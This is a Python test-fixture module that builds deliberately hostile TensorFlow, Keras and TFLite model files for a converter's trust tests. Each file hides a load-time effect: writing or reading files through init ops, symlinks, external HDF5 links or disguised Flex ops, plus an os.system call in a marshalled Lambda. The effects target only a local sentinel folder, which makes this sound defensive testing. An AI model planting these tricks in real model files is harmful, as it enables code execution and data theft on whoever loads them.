"""Hostile models, built the way an attacker would: each hides an effect outside the process somewhere that
loading or converting the model reaches.

Every builder takes a `Sentinel` (a folder that nothing honest touches: the marker file an effect would
write, a "secret" file an effect would read, a port an effect would connect to) and returns the model's path.
`tests/test_trust.py` runs keras-gelu-convert on each and asserts that nothing of it ran.
"""

import ctypes
import ctypes.util
import dataclasses
import json
import os
import select
import socket
import struct

import numpy as np
import tensorflow as tf
from tensorflow.core.protobuf import saved_model_pb2

_INPUT = tf.TensorSpec([None, 4], tf.float32, name="x")


class _Inotify:
    """Every open(2) of a file in one folder, as the kernel reports it (Linux inotify, through ctypes)."""

    _IN_OPEN = 0x20
    _IN_CREATE = 0x100
    _EVENT_HEADER = struct.Struct("iIII")

    def __init__(self, folder):
        libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        self._fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self._fd < 0 or libc.inotify_add_watch(self._fd, os.fsencode(folder),
                                                  self._IN_OPEN | self._IN_CREATE) < 0:
            raise OSError(ctypes.get_errno(), "inotify")

    def names(self):
        """Names of the files opened or created since the last call."""
        names = []
        while select.select([self._fd], [], [], 0)[0]:
            data = os.read(self._fd, 65536)
            offset = 0
            while offset < len(data):
                _, _, _, length = self._EVENT_HEADER.unpack_from(data, offset)
                offset += self._EVENT_HEADER.size
                names.append(data[offset:offset + length].rstrip(b"\0").decode() or ".")
                offset += length
        return names

    def close(self):
        os.close(self._fd)


@dataclasses.dataclass
class Sentinel:
    """Where an effect would show: a marker to write, a secret to read, a port to connect to."""

    folder: str

    def __post_init__(self):
        os.makedirs(self.folder, exist_ok=True)
        self.marker = os.path.join(self.folder, "marker")
        self.secret = os.path.join(self.folder, "secret")
        with open(self.secret, "wb") as stream:
            stream.write(b"hunter2 " * 64)
        self._listener = socket.socket()
        self._listener.bind(("127.0.0.1", 0))
        self._listener.listen(16)
        self._listener.setblocking(False)
        self.address = "127.0.0.1:%d" % self._listener.getsockname()[1]
        self._watch = _Inotify(self.folder)

    def effects(self):
        """What happened since the last call: files opened or created in the folder, connections made."""
        seen = [f"opened or created {name}" for name in self._watch.names()]
        while True:
            try:
                connection, _ = self._listener.accept()
            except BlockingIOError:
                break
            connection.close()
            seen.append(f"connection to {self.address}")
        if os.path.lexists(self.marker):
            seen.append("marker written")
            (os.rmdir if os.path.isdir(self.marker) else os.unlink)(self.marker)
            self._watch.names()  # the unlink's own events are ours
        return seen

    def close(self):
        self._listener.close()
        self._watch.close()


def edit_saved_model(path, edit):
    """Apply `edit(meta_graph)` to the one meta graph in saved_model.pb; the path."""
    saved_model = saved_model_pb2.SavedModel()
    with open(os.path.join(path, "saved_model.pb"), "rb") as stream:
        saved_model.ParseFromString(stream.read())
    (meta_graph,) = saved_model.meta_graphs
    edit(meta_graph)
    with open(os.path.join(path, "saved_model.pb"), "wb") as stream:
        stream.write(saved_model.SerializeToString())
    return path


def call_by_op_name(meta_graph, callee):
    """Make the `__call__` function return what library function `callee`* returns, called by naming it as a
    node's op (the plain function-call form, with no function attribute)."""
    library = meta_graph.graph_def.library.function
    (called,) = [function for function in library if function.signature.name.startswith(callee)]
    (serving,) = [function for function in library if function.signature.name.startswith("__inference___call__")]
    call = serving.node_def.add(name="innocent_call", op=called.signature.name)
    call.input.append(serving.signature.input_arg[0].name)
    (output,) = serving.ret
    serving.ret[output] = f"innocent_call:{called.signature.output_arg[0].name}:0"


def swap_signatures(meta_graph, first, second):
    """Swap two signatures' functions in the object graph (what the loader uses), not in signature_def."""
    (signature_map,) = [node for node in meta_graph.object_graph_def.nodes
                        if node.user_object.identifier == "signature_map"]
    children = {child.local_name: child for child in signature_map.children}
    children[first].node_id, children[second].node_id = children[second].node_id, children[first].node_id


# --- TF1-style SavedModels (tf.compat.v1.saved_model.Builder, no object graph) ---------------------------


def _tf1_saved_model(path, payload, place):
    """A TF1 GELU model with a variable; `payload(sentinel)` makes the effect's op, `place(builder_kwargs,
    op, graph)` puts it where loading runs it."""
    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        kernel = tf.compat.v1.get_variable("kernel", [4, 4], initializer=tf.compat.v1.ones_initializer())
        y = tf.identity(tf.nn.gelu(tf.matmul(x, kernel), approximate=False), name="y")
        effect = payload()
        kwargs = {}
        place(kwargs, effect, graph)
        with tf.compat.v1.Session() as session:
            session.run(tf.compat.v1.global_variables_initializer())
            builder = tf.compat.v1.saved_model.Builder(path)
            signature = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={"serving_default": signature},
                                                 **kwargs)
            builder.save()
    return path


def _write_marker(sentinel):
    return lambda: tf.io.write_file(sentinel.marker, "ran")


def tf1_main_op(sentinel, path):
    return _tf1_saved_model(path, _write_marker(sentinel), lambda kwargs, op, graph: kwargs.update(main_op=op))


def tf1_legacy_init_op(sentinel, path):
    def place(kwargs, op, graph):
        graph.add_to_collection("legacy_init_op", op)

    return _tf1_saved_model(path, _write_marker(sentinel), place)


def tf1_table_initializer(sentinel, path):
    def place(kwargs, op, graph):
        graph.add_to_collection(tf.compat.v1.GraphKeys.TABLE_INITIALIZERS, op)

    return _tf1_saved_model(path, _write_marker(sentinel), place)


def tf1_restore_op(sentinel, path):
    """saver_def.restore_op_name names a WriteFile node: restoring the variables runs it."""
    def restore_by_writing(meta_graph):
        (write,) = [node for node in meta_graph.graph_def.node if node.op == "WriteFile"]
        meta_graph.saver_def.restore_op_name = write.name

    return edit_saved_model(_tf1_saved_model(path, _write_marker(sentinel), lambda kwargs, op, graph: None),
                            restore_by_writing)


def tf1_register_dataset(sentinel, path):
    """RegisterDataset opens a connection to a tf.data service at an address the model chooses."""
    host_port = sentinel.address

    def payload():
        dataset = tf.data.Dataset.range(3)
        return tf.raw_ops.RegisterDataset(dataset=dataset._variant_tensor, address=host_port, protocol="grpc",
                                          external_state_policy=0).op

    return _tf1_saved_model(path, payload, lambda kwargs, op, graph: kwargs.update(main_op=op))


# --- TF2 SavedModels -------------------------------------------------------------------------------------


class _Gelu(tf.Module):
    @tf.function(input_signature=[_INPUT])
    def __call__(self, x):
        return {"y": tf.nn.gelu(x, approximate=False)}


class _MarkerResource(tf.saved_model.experimental.TrackableResource):
    def __init__(self, marker):
        super().__init__()
        self.marker = marker

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="innocent")

    def _initialize(self):
        tf.io.write_file(self.marker, "ran")


def resource_initializer(sentinel, path):
    """A resource whose _initialize writes a file, and no __saved_model_init_op signature to point at it."""
    module = _Gelu()
    module.resource = _MarkerResource(sentinel.marker)
    tf.saved_model.save(module, path, signatures={"serving_default": module.__call__})
    return edit_saved_model(path, lambda meta_graph: meta_graph.signature_def.pop("__saved_model_init_op"))


def _with_writer(sentinel):
    module = _Gelu()
    marker = sentinel.marker

    @tf.function(input_signature=[_INPUT])
    def writes(x):
        tf.io.write_file(marker, tf.strings.as_string(tf.reduce_sum(x)))
        return {"y": tf.nn.gelu(x, approximate=False)}

    module.writes = writes
    return module, writes


def function_called_by_op_name(sentinel, path):
    """The serving function calls a library function by naming it as a node's op, not through an attribute."""
    module, _ = _with_writer(sentinel)
    tf.saved_model.save(module, path, signatures={"serving_default": module.__call__})
    return edit_saved_model(path, lambda meta_graph: call_by_op_name(meta_graph, "__inference_writes"))


def swapped_signature(sentinel, path):
    """signature_def's serving_default computes a GELU; the object graph's, which the loader uses, writes."""
    module, writes = _with_writer(sentinel)
    tf.saved_model.save(module, path, signatures={"serving_default": module.__call__, "other": writes})

    def swap(meta_graph):
        swap_signatures(meta_graph, "serving_default", "other")
        del meta_graph.signature_def["other"]

    return edit_saved_model(path, swap)


def _reading_saved_model(path, reads):
    module = _Gelu()

    @tf.function(input_signature=[_INPUT])
    def serving(x):
        return {"y": tf.nn.gelu(x, approximate=False) + tf.cast(tf.size(reads()), tf.float32) * 0.0}

    tf.saved_model.save(module, path, signatures={"serving_default": serving})
    return path


def candidate_sampler_vocabulary(sentinel, path):
    """FixedUnigramCandidateSampler reads its vocab_file when it runs."""
    secret = sentinel.secret

    def reads():
        classes = tf.constant([[0]], tf.int64)
        return tf.raw_ops.FixedUnigramCandidateSampler(true_classes=classes, num_true=1, num_sampled=1, unique=True,
                                                       range_max=1, vocab_file=secret)[0]

    return _reading_saved_model(path, reads)


def record_input(sentinel, path):
    """RecordInput reads the records of the files its file_pattern matches."""
    secret = sentinel.secret
    return _reading_saved_model(path, lambda: tf.raw_ops.RecordInput(file_pattern=secret, batch_size=1))


def read_file_in_a_branch(sentinel, path):
    """ReadFile, a stateless op, in a cond branch the inputs never take."""
    secret = sentinel.secret
    return _reading_saved_model(path, lambda: tf.cond(tf.random.uniform([]) > 2.0,
                                                      lambda: tf.io.read_file(secret), lambda: tf.constant("")))


def asset_outside_the_model(sentinel, path):
    """An asset whose file name climbs out of the model's assets folder."""
    module = _Gelu()
    with open(os.path.join(sentinel.folder, "vocabulary.txt"), "w") as stream:
        stream.write("a\n")
    module.asset = tf.saved_model.Asset(os.path.join(sentinel.folder, "vocabulary.txt"))
    tf.saved_model.save(module, path, signatures={"serving_default": module.__call__})

    def escape(meta_graph):
        (asset,) = meta_graph.asset_file_def
        asset.filename = sentinel.secret  # os.path.join(assets, an absolute path) is the absolute path

    return edit_saved_model(path, escape)


def variables_symlink(sentinel, path):
    """The checkpoint's index file is a symbolic link to a file outside the model."""
    module = _Gelu()
    module.kernel = tf.Variable(tf.ones([4]))
    tf.saved_model.save(module, path, signatures={"serving_default": module.__call__})
    index = os.path.join(path, "variables", "variables.index")
    os.unlink(index)
    os.symlink(sentinel.secret, index)
    return path


def function_attribute_naming_an_op(sentinel, path):
    """A PartitionedCall whose `f` names a registered op, not a library function: TF runs the op itself."""
    def call_write_file(meta_graph):
        nodes = meta_graph.graph_def.node
        for name, value in (("filename", sentinel.marker), ("contents", "ran")):
            constant = nodes.add(name=name, op="Const")
            constant.attr["dtype"].type = tf.string.as_datatype_enum
            constant.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
        call = nodes.add(name="innocent_call", op="PartitionedCall", input=["filename", "contents"])
        call.attr["Tin"].list.type.extend([tf.string.as_datatype_enum] * 2)
        call.attr["Tout"].list.SetInParent()
        call.attr["f"].func.name = "WriteFile"
        (main_op,) = [node for node in nodes if node.name == "innocent"]
        main_op.input.append("^innocent_call")

    innocent_main_op = _tf1_saved_model(path, lambda: tf.no_op(name="innocent"),
                                        lambda kwargs, op, graph: kwargs.update(main_op=op))
    return edit_saved_model(innocent_main_op, call_write_file)


def dataset_from_graph(sentinel, path):
    """DatasetFromGraph, a stateless op that is no tf.data op by its signature, with a GraphDef in a string
    constant: the embedded graph reads the secret and writes a copy of it to the marker."""
    from tensorflow.core.framework import graph_pb2

    dataset = graph_pb2.GraphDef.FromString(tf.data.Dataset.from_tensors(tf.constant("x"))._as_serialized_graph()
                                            .numpy())
    with tf.Graph().as_default() as effects:
        tf.io.write_file(sentinel.marker, tf.io.read_file(sentinel.secret, name="secret_content"), name="copy")
    dataset.node.extend(effects.as_graph_def().node)
    for node in dataset.node:
        if node.op == "TensorDataset":
            node.input[0] = "secret_content"
            node.input.append("^copy")
    blob = dataset.SerializeToString()
    module = _Gelu()

    @tf.function(input_signature=[_INPUT])
    def serving(x):
        handle = tf.raw_ops.DatasetFromGraph(graph_def=tf.constant(blob))
        with tf.control_dependencies([handle]):
            return {"y": tf.nn.gelu(x, approximate=False) * 1.0}

    tf.saved_model.save(module, path, signatures={"serving_default": serving})
    return path


def _aborting(path, exit_without_error):
    module = _Gelu()

    @tf.function(input_signature=[_INPUT])
    def serving(x):
        ends = tf.raw_ops.Abort(error_msg="the model ends the process", exit_without_error=exit_without_error)
        with tf.control_dependencies([ends]):  # a stateless op the output needs nothing of: kept by this edge
            return {"y": tf.nn.gelu(x, approximate=False)}

    tf.saved_model.save(module, path, signatures={"serving_default": serving})
    return path


def abort_quietly(sentinel, path):
    """Abort(exit_without_error=True): the process that runs the model exits 0, having written nothing."""
    return _aborting(path, True)


def abort(sentinel, path):
    """Abort: the process that runs the model dies of SIGABRT."""
    return _aborting(path, False)


# --- Keras files -----------------------------------------------------------------------------------------


def _op_layer_h5(path, layers):
    """A tf-keras functional model config (a GELU Dense) with `layers` (config dicts, their inbound nodes
    given) spliced in, written as an .h5 with no weights needed: the layers take constant arguments."""
    import h5py

    config = {"class_name": "Functional", "config": {
        "name": "model", "trainable": True,
        "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                    "name": "x"}, "name": "x", "inbound_nodes": []},
            {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "gelu",
                                               "use_bias": False, "dtype": "float32", "trainable": True,
                                               "kernel_initializer": {"class_name": "Ones", "config": {}}},
             "name": "dense", "inbound_nodes": [[["x", 0, 0, {}]]]},
            *layers,
        ],
        "input_layers": [["x", 0, 0]], "output_layers": [["dense", 0, 0]]}}
    with h5py.File(path, "w") as stream:
        stream.attrs["model_config"] = json.dumps(config)
        stream.attrs["keras_version"] = "2.21.0"
        stream.attrs["backend"] = "tensorflow"
        weights = stream.create_group("model_weights")
        weights.attrs["layer_names"] = [b"x", b"dense"]
        weights.attrs["backend"] = b"tensorflow"
        weights.attrs["keras_version"] = b"2.21.0"
        weights.create_group("x").attrs["weight_names"] = []
        dense = weights.create_group("dense")
        dense.attrs["weight_names"] = [b"dense/kernel:0"]
        dense.create_dataset("dense/kernel:0", data=np.ones((4, 2), np.float32))
    return path


def _constant_call(layer_name, class_name, config, argument, keywords):
    """A layer config called on constants only (tf-keras's _CONSTANT_VALUE inbound node)."""
    return {"class_name": class_name, "config": {"name": layer_name, "trainable": True, "dtype": "float32", **config},
            "name": layer_name, "inbound_nodes": [["_CONSTANT_VALUE", -1, argument, keywords]]}


def tf_op_lambda_write_file(sentinel, path):
    return _op_layer_h5(path, [_constant_call("tf.io.write_file", "TFOpLambda", {"function": "io.write_file"},
                                              sentinel.marker, {"contents": "ran"})])


def tf_op_lambda_makedirs(sentinel, path):
    return _op_layer_h5(path, [_constant_call("tf.io.gfile.makedirs", "TFOpLambda",
                                              {"function": "io.gfile.makedirs"}, sentinel.marker, {})])


def h5_external_storage(sentinel, path):
    """The kernel's bytes live in an external file: the secret."""
    import h5py

    _op_layer_h5(path, [])
    with h5py.File(path, "r+") as stream:
        group = stream["model_weights/dense"]
        del group["dense/kernel:0"]
        group.create_dataset("dense/kernel:0", shape=(4, 2), dtype=np.float32, external=[(sentinel.secret, 0, 32)])
    return path


def h5_external_link(sentinel, path):
    """A weights group that is a link into another HDF5 file, outside the model."""
    import h5py

    _op_layer_h5(path, [])
    secret = os.path.join(sentinel.folder, "secret.h5")
    with h5py.File(path, "r+") as stream, h5py.File(secret, "w") as other:
        stream.copy("model_weights/dense", other, "dense")
        del stream["model_weights/dense"]
        stream["model_weights/dense"] = h5py.ExternalLink(secret, "/dense")
    return path


def h5_with_a_zip_appended(sentinel, path):
    """An .h5 whose Lambda starts a shell that writes the marker, with a zip archive appended that holds a
    harmless config.json: a check that reads the zip sees a Dense, tf-keras's loader reads the HDF5 part."""
    import base64
    import marshal
    import zipfile

    code = eval(f"lambda x: (__import__('os').system('touch {sentinel.marker}'), x)[1]").__code__  # noqa: S307
    lambda_layer = {"class_name": "Lambda", "name": "shell", "inbound_nodes": [[["dense", 0, 0, {}]]], "config": {
        "name": "shell", "trainable": True, "dtype": "float32",
        "function": [base64.b64encode(marshal.dumps(code)).decode("ascii"), None, None],
        "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}
    _op_layer_h5(path, [lambda_layer])
    import h5py

    with h5py.File(path, "r+") as stream:
        config = json.loads(stream.attrs["model_config"])
        config["config"]["output_layers"] = [["shell", 0, 0]]
        stream.attrs["model_config"] = json.dumps(config)
    harmless = {"class_name": "Sequential", "config": {"name": "harmless", "layers": []}}
    with zipfile.ZipFile(path, "a") as archive:  # appends the archive after the HDF5 bytes
        archive.writestr("config.json", json.dumps(harmless))
    return path


def _keras_archive(path, layer):
    """A Keras 3 .keras file by hand: a Sequential whose first layer, after its input, is `layer` (a config)."""
    import zipfile

    config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {
        "name": "sequential", "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
             "config": {"batch_shape": [None], "dtype": "string", "name": "text"}},
            layer]}}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.0", "date_saved": "2026-12-02"}))
        archive.writestr("config.json", json.dumps(config))
    return path


def lookup_vocabulary_file(sentinel, path):
    """A StringLookup whose vocabulary is the secret: building the layer reads it."""
    return _keras_archive(path, {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                                 "config": {"name": "lookup", "vocabulary": sentinel.secret}})


def keras_hub_tokenizer_file(sentinel, path):
    """keras-hub's PARSeqTokenizer, its vocabulary the secret: a class the op checks never named."""
    return _keras_archive(path, {
        "module": "keras_hub.src.models.parseq.parseq_tokenizer", "class_name": "PARSeqTokenizer",
        "registered_name": "keras_hub>PARSeqTokenizer", "config": {"name": "tokenizer", "vocabulary": sentinel.secret}})


def _select_mode_tflite(function, path):
    """`function` through the stock converter with SELECT_TF_OPS: its TensorFlow ops ship as Flex ops."""
    converter = tf.lite.TFLiteConverter.from_concrete_functions([function.get_concrete_function()])
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    with open(path, "wb") as stream:
        stream.write(converter.convert())
    return path


def flex_write_file(sentinel, path):
    """A select-mode .tflite of a GELU model that also writes a file: FlexWriteFile, which a runtime linking
    Flex (TF 2.18's interpreter) runs."""
    _, writes = _with_writer(sentinel)
    return _select_mode_tflite(writes, path)


def flex_read_file_named_erf(sentinel, path):
    """FlexReadFile of the secret, its operator code renamed FlexErf: the Flex delegate runs the NodeDef the
    op carries, whatever the code says."""
    secret = sentinel.secret

    @tf.function(input_signature=[_INPUT])
    def reads(x):
        length = tf.cast(tf.strings.length(tf.io.read_file(secret)), tf.float32)
        return {"y": tf.nn.gelu(x, approximate=False) + length}

    _select_mode_tflite(reads, path)
    from keras_gelu.converters.tflite import flatbuffer_model

    with open(path, "rb") as stream:
        data = stream.read()
    model = flatbuffer_model.as_object(data)
    for code in model.operatorCodes:
        if code.customCode in (b"FlexReadFile", "FlexReadFile"):
            code.customCode = "FlexErf"
    with open(path, "wb") as stream:
        stream.write(flatbuffer_model.as_bytes(model, len(data)))
    return path


# Each builder, by name, with the Keras flavour it needs (None: either).
SAVED_MODELS = {
    "tf1_main_op": tf1_main_op,
    "tf1_legacy_init_op": tf1_legacy_init_op,
    "tf1_table_initializer": tf1_table_initializer,
    "tf1_restore_op": tf1_restore_op,
    "tf1_register_dataset": tf1_register_dataset,
    "resource_initializer": resource_initializer,
    "function_called_by_op_name": function_called_by_op_name,
    "swapped_signature": swapped_signature,
    "candidate_sampler_vocabulary": candidate_sampler_vocabulary,
    "record_input": record_input,
    "read_file_in_a_branch": read_file_in_a_branch,
    "asset_outside_the_model": asset_outside_the_model,
    "variables_symlink": variables_symlink,
    "function_attribute_naming_an_op": function_attribute_naming_an_op,
    "dataset_from_graph": dataset_from_graph,
    "abort_quietly": abort_quietly,
    "abort": abort,
}
H5_FILES = {
    "tf_op_lambda_write_file": tf_op_lambda_write_file,
    "tf_op_lambda_makedirs": tf_op_lambda_makedirs,
    "h5_external_storage": h5_external_storage,
    "h5_external_link": h5_external_link,
    "h5_with_a_zip_appended": h5_with_a_zip_appended,
}
# Keras 3 .keras files (the tf-keras leg has no keras-hub, and reads .keras files of its own format).
KERAS_FILES = {
    "lookup_vocabulary_file": lookup_vocabulary_file,
    "keras_hub_tokenizer_file": keras_hub_tokenizer_file,
}
TFLITE_FILES = {
    "flex_write_file": flex_write_file,
    "flex_read_file_named_erf": flex_read_file_named_erf,
}
